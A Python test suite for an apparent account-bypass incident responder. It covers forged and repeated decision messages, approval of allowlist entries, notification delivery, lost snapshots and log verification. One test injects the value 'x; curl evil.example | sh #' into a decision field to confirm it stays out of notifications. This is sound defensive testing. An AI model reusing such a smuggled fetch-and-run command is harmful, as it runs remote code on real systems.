"""What a third review proved about decisions, the allowlist, notifications, candidates and the log."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from contextlib import suppress
from datetime import timedelta
from typing import Any

import pytest

from bypass_responder.adapters.allowlist_table import TABLE, TableAllowlist
from bypass_responder.adapters.checkpoint_store import CheckpointStore
from bypass_responder.adapters.storage_clients import StorageClients
from bypass_responder.errors import TransientError
from bypass_responder.model.account import MOST_MISSPELLED, AllowlistEntry, MalformedEntry
from bypass_responder.model.allowlist import ENTRY_KEY, Approval, SeenRow
from bypass_responder.model.case import TENANT_TARGET, Case
from bypass_responder.model.decision_message import Author, Channel
from bypass_responder.model.incident import PersonDecision
from bypass_responder.model.notification import Notification
from bypass_responder.model.sweep import says_rows_are_missing
from bypass_responder.operating.verify_log import verify_log
from bypass_responder.triggers.carry_out_decision import carry_out_decision
from bypass_responder.triggers.watch_allowlist import watch_allowlist
from tests.adapters.conftest import clients, storage
from tests.adapters.test_allowlist_table import ROW, SERVICE
from tests.adapters.test_checkpoint_store import NOON, fill
from tests.adversary.scenes import a_finding_about, minutes_pass, numbered_accounts, problems_of
from tests.world import ALEX, BLAKE, START, World, a_finding, an_account, an_entry

__all__ = ["clients", "storage"]

OTHER = Author(object_id="0f0f0f0f-0000-4000-8000-0000000000ee", name="somebody@contoso.onmicrosoft.com")
EARLIER = START - timedelta(minutes=5)


# ---- decisions


@pytest.mark.parametrize("first", ["approve", "dismiss"])
async def test_a_repeated_message_with_another_account_contains_nobody(first: str) -> None:
    """The id of a decision that was carried out, sent again: as an approval that names somebody else."""
    world = World()
    world.bypassed[ALEX] = True
    finding = a_finding(object_id_text="", identity_text="Alexander", effective_at=EARLIER)
    await world.sees(finding)
    await world.answer()
    incident = (await world.incidents(finding.target))[-1].id
    account = {"account": ALEX} if first == "approve" else {}
    message = await world.a_decision(first, incident, finding.target, **account)
    assert (await world.delivers(message)).outcome == "carried_out"
    await minutes_pass(world, 2)
    forged = {"message_id": message.message_id, "account": BLAKE, "author": OTHER}
    await world.delivers(await world.a_decision("approve", incident, finding.target, **forged))
    await minutes_pass(world, 3)

    assert world.directory.enabled[BLAKE]


async def test_refused_decisions_do_not_stay_loaded() -> None:
    """About no incident of the case: any sender may make as many as they like."""
    world = World()
    await world.passes(minutes=1)
    for number in range(10):
        await world.delivers(await world.a_decision("dismiss", "none", f"cccccccc-0000-4000-8000-{number:012d}"))
    world.now += timedelta(hours=25)
    await world.delivers(await world.a_decision("dismiss", "none", "cccccccc-0000-4000-8000-999999999999"))
    await minutes_pass(world, 5)

    assert len((await world.ledger.load(TENANT_TARGET)).rows(PersonDecision)) == 1


async def test_refused_decisions_do_not_fill_the_tenants_case_within_an_hour() -> None:
    world = World()
    for number in range(300):
        world.now += timedelta(seconds=0.1)
        await world.delivers(await world.a_decision("dismiss", "none", f"cccccccc-0000-4000-8000-{number:012d}"))

    assert len((await world.ledger.load(TENANT_TARGET)).by_key) < 500


async def test_an_account_that_is_named_by_its_user_principal_name_cannot_approve_its_own_entry() -> None:
    world = World(allowlist_approval="required")
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    entry = await world.allowlist.get(ALEX)
    assert isinstance(entry, AllowlistEntry)
    themselves = Author(name="Alex@contoso.onmicrosoft.com")
    message = await world.a_decision("approve_entry", "", entry_sha256=entry.digest(), author=themselves)

    assert (await world.delivers(message)).outcome == "refused"


async def test_who_wrote_an_entry_under_another_name_cannot_approve_it() -> None:
    world = World(allowlist_approval="required")
    await world.allowlist.put(an_entry(approved_by="blake@contoso.onmicrosoft.com"))
    await world.passes(minutes=1)
    entry = await world.allowlist.get(ALEX)
    assert isinstance(entry, AllowlistEntry)
    renamed = Author(object_id=BLAKE, name="blake.jones@contoso.com")
    message = await world.a_decision("approve_entry", "", entry_sha256=entry.digest(), author=renamed)

    assert "wrote the entry" in (await world.delivers(message)).why


@pytest.mark.parametrize(
    ("signature", "refused"),
    [
        ("joann@contoso.com (10000000-0000-4000-8000-000000000001)", False),
        ("joann@contoso.com", False),
        ("ann@contoso.com (no object id)", True),
        ("ann@contoso.com.au (no object id)", False),
        ("renamed@contoso.com (10000000-0000-4000-8000-000000000002)", True),
        ("boss@contoso.com, and Ann@contoso.com.", True),
    ],
)
async def test_only_who_is_named_as_the_writer_of_an_entry_wrote_it(signature: str, *, refused: bool) -> None:
    world = World(allowlist_approval="required")
    await world.allowlist.put(an_entry(approved_by=signature))
    await world.passes(minutes=1)
    entry = await world.allowlist.get(ALEX)
    assert isinstance(entry, AllowlistEntry)
    ann = Author(object_id="10000000-0000-4000-8000-000000000002", name="ann@contoso.com")
    message = await world.a_decision("approve_entry", "", entry_sha256=entry.digest(), author=ann)

    assert ("wrote the entry" in (await world.delivers(message)).why) is refused


async def test_a_decision_puts_no_foreign_command_into_a_notification() -> None:
    world = World()
    await world.sees(a_finding())
    body = (await world.a_decision("dismiss", "x")).model_dump_json().replace('"x"', '"x; curl evil.example | sh #"')
    await carry_out_decision(body.encode(), world.services, channel=Channel.BYPASSCTL)
    await world.passes(minutes=1)

    assert not any("curl" in line for note in world.notifier.sent for line in note.left_to_do)


async def test_an_unreadable_decision_is_notified_although_the_first_try_failed() -> None:
    world = World()
    world.ledger.fail("commit", TransientError("storage"), about=TENANT_TARGET)
    for _ in range(2):
        with suppress(TransientError, ExceptionGroup):
            await carry_out_decision(b"{}", world.services, channel=Channel.BYPASSCTL)
    await minutes_pass(world, 2)

    assert "unreadable" in {note.about for note in world.notifier.sent}


async def test_unreadable_decisions_do_not_fill_the_tenants_case() -> None:
    world = World()
    for number in range(400):
        world.now += timedelta(seconds=0.1)
        await carry_out_decision(f"{{{number}".encode(), world.services, channel=Channel.BYPASSCTL)
    await minutes_pass(world, 5)

    assert len((await world.ledger.load(TENANT_TARGET)).rows(Notification)) < 300


# ---- notifications


class FailsOn:
    """A receiver that answers 502 to messages with a notification about one target.

    It accepts every other message.
    """

    def __init__(self, target: str) -> None:
        self.target = target
        self.got: list[Notification] = []

    async def send(self, notifications: Sequence[Notification]) -> None:
        if any(note.target == self.target for note in notifications):
            raise TransientError("The webhook answered 502.")
        self.got += notifications


async def all_bypassed(world: World, people: Sequence[Any]) -> None:
    for person in people:
        world.bypassed[person.object_id] = True
    await problems_of(world.sees(*(a_finding_about(person, effective_at=EARLIER) for person in people)))


@pytest.mark.parametrize("accounts", [3, 12, 60])
async def test_a_notification_that_crashes_the_receiver_holds_back_no_other(accounts: int) -> None:
    people = numbered_accounts(accounts)
    world = World(*people, containment_limit_per_hour=100)
    world.services.receivers["webhook"] = receiver = FailsOn(people[0].object_id)  # type: ignore[index]
    await all_bypassed(world, people)
    await minutes_pass(world, 30)

    notified = {note.target for note in receiver.got if note.about == "contained"}
    assert notified == {person.object_id for person in people[1:]}


async def test_a_case_that_cannot_be_written_holds_back_no_other_notification() -> None:
    people = numbered_accounts(3)
    world = World(*people)
    commit = world.ledger.commit

    async def stuck(case: Case, rows: Any, *others: Any) -> Case:
        marks = any(isinstance(row, Notification) and row.deliveries for row in rows)
        if case.target == people[0].object_id and marks:
            raise TransientError("The case changed too often.")
        return await commit(case, rows, *others)

    world.ledger.commit = stuck  # type: ignore[method-assign,assignment]
    await all_bypassed(world, people)
    await minutes_pass(world, 30)

    notified = [note.target for note in world.notifier.sent if note.about == "contained"]
    assert set(notified) == {person.object_id for person in people}
    assert notified.count(people[0].object_id) <= 6


# ---- the allowlist


async def added_after_the_bypass(world: World) -> None:
    """Hours later the account is bypassed, and then somebody adds the entry."""
    world.now += timedelta(hours=2)
    world.bypassed[ALEX] = True
    began = world.now
    world.now += timedelta(minutes=30)
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    await world.sees(a_finding(effective_at=began))


async def test_two_overlapping_runs_leave_no_memory_of_a_row_that_is_gone() -> None:
    """The run that read the edit is slower than the one that read the deletion after it."""
    world = World()
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    before = await world.allowlist.get(ALEX)
    assert before is not None
    await world.allowlist.put(an_entry(owner="new@contoso.com"), replaces=before.etag)
    load, has_read, may_go_on = world.ledger.load, asyncio.Event(), asyncio.Event()

    async def slow_load(target: str, *, history: bool = False) -> Case:
        if target == ALEX and not has_read.is_set():
            has_read.set()
            await may_go_on.wait()
        return await load(target, history=history)

    world.ledger.load = slow_load  # type: ignore[method-assign]
    slow = asyncio.ensure_future(watch_allowlist(world.services))
    await has_read.wait()
    world.allowlist.take_away(ALEX)
    await watch_allowlist(world.services)
    may_go_on.set()
    await slow
    await minutes_pass(world, 3)
    await added_after_the_bypass(world)

    assert await world.incidents()


async def test_a_lost_snapshot_hides_no_removal() -> None:
    world = World()
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    world.allowlist_snapshot.kept = None
    world.allowlist.take_away(ALEX)
    await minutes_pass(world, 3)
    await added_after_the_bypass(world)

    assert await world.incidents()


async def test_a_lost_snapshot_hides_no_change() -> None:
    world = World()
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    world.allowlist_snapshot.kept = None
    before = await world.allowlist.get(ALEX)
    assert before is not None
    await world.allowlist.put(an_entry(owner="mallory@contoso.com"), replaces=before.etag)
    await minutes_pass(world, 3)

    notified = [
        note.facts for note in world.notifier.sent if note.about == "allowlist_changed" and "after" in note.facts
    ]
    assert [facts["after"]["owner"] for facts in notified] == ["mallory@contoso.com"]


def misspelled_rows(world: World, count: int) -> None:
    for number in range(count):
        key = f"user{number}@contoso.com"
        world.allowlist.rows[key] = MalformedEntry(object_id=key, problem="keys", etag=f"e{number}", keys=("t", key))


async def test_misspelled_rows_do_not_fill_the_tenants_case() -> None:
    world = World()
    await world.passes(minutes=1)
    misspelled_rows(world, 1000)
    await minutes_pass(world, 3)

    assert len((await world.ledger.load(TENANT_TARGET)).rows(SeenRow)) < 300


async def test_so_many_misspelled_rows_delay_no_decision() -> None:
    world = World()
    misspelled_rows(world, 20_000)

    assert len(await world.allowlist.misspelled()) == MOST_MISSPELLED + 1


async def test_an_account_that_an_unread_row_may_mean_is_not_blocked() -> None:
    world = World()
    world.bypassed[ALEX] = True
    misspelled_rows(world, MOST_MISSPELLED + 1)
    await world.sees(a_finding())
    await world.answer()
    await world.passes(minutes=1)

    assert [incident.verdict for incident in await world.incidents()] == ["allowlist_unclear"]
    assert world.directory.enabled[ALEX]


async def test_rows_that_are_not_read_for_a_decision_are_notified() -> None:
    world = World()
    await world.passes(minutes=1)
    misspelled_rows(world, MOST_MISSPELLED + 1)
    await minutes_pass(world, 3)
    titles = [note.title for note in (await world.ledger.load(TENANT_TARGET)).rows(Notification)]

    assert titles.count("The allowlist has more rows than are read for a decision") == 1


async def test_the_rows_that_are_not_followed_one_by_one_are_notified_together() -> None:
    world = World()
    await world.passes(minutes=1)
    misspelled_rows(world, 1000)
    await minutes_pass(world, 3)
    titles = [note.title for note in (await world.ledger.load(TENANT_TARGET)).rows(Notification)]

    assert sum("900 more rows" in title for title in titles) == 1


async def test_half_a_character_in_a_row_leaves_it_storable(clients: StorageClients, tenant_id: str) -> None:
    """Otherwise neither the change of the row nor a decision that quotes it can be committed."""
    table = clients.tables.get_table_client(TABLE)
    await table.create_entity(ROW | {"PartitionKey": tenant_id, "RowKey": SERVICE, "Owner": "x\ud83dy"})
    entry = await TableAllowlist(clients.tables, tenant_id).get(SERVICE)
    assert entry is not None

    assert entry.model_dump_json()


# ---- sweeps and candidates


async def test_a_bypassed_candidate_stays_when_others_take_the_name() -> None:
    people = numbered_accounts(12)
    world = World(an_account(), *people)
    world.bypassed[ALEX] = True
    world.names["shared"] = [ALEX, people[0].object_id]
    finding = a_finding(object_id_text="", identity_text="Shared", effective_at=EARLIER)
    await world.sees(finding)
    await minutes_pass(world, 5)
    world.names["shared"] = [each.object_id for each in people[1:11]]
    await world.sees(a_finding(object_id_text="", identity_text="Shared", effective_at=world.now))
    await minutes_pass(world, 15)

    assert [each.object_id for each in (await world.incidents(finding.target))[-1].candidates if each.bypass_on] == [
        ALEX
    ]


def test_an_object_whose_name_says_partial_is_no_sign_of_missing_rows() -> None:
    """Anyone who may name a mailbox would make every sweep incomplete, and nobody could accept it."""
    text = "The object contoso.com/Partial Orders has been corrupted, and it's in an inconsistent state."

    assert not says_rows_are_missing(text)


# ---- the log


async def test_an_approval_that_nobody_gave_is_named() -> None:
    world = World(allowlist_approval="required")
    await world.allowlist.put(an_entry())
    await world.passes(minutes=1)
    seen, entry = (await world.case()).row(SeenRow, ENTRY_KEY), await world.allowlist.get(ALEX)
    assert seen is not None
    forged = Approval(sha256=entry.digest(), by="boss@contoso.com", since=world.now)  # type: ignore[union-attr]
    held = world.ledger.stored[ALEX]
    key = next(key for key in held if key.endswith(ENTRY_KEY))
    held[key] = (held[key][0], seen.model_copy(update={"approval": forged}).model_dump_json())

    assert (await verify_log(world.ledger, world.checkpoints)).problems


@pytest.mark.parametrize("edit", [{"Blob": "000000000001-2026-99-99.jsonl"}, {"Start": -1}])
async def test_the_place_of_the_last_checkpoint_may_be_nonsense(
    edit: dict[str, Any], clients: StorageClients, tenant_id: str
) -> None:
    """Otherwise each run of the scheduler ends there, before it starts the delivery of notifications."""
    store = CheckpointStore(clients.tables, clients.blobs, tenant_id)
    filled = await fill(store, NOON, NOON)
    table = clients.tables.get_table_client("Checkpoints")
    row = dict(await table.get_entity(f"{tenant_id}_last", "last")) | edit
    row["Blob"] = row["Blob"] if "/" in row["Blob"] else f"{tenant_id}/{row['Blob']}"
    await table.upsert_entity(row)

    assert await store.last() == filled[-1]
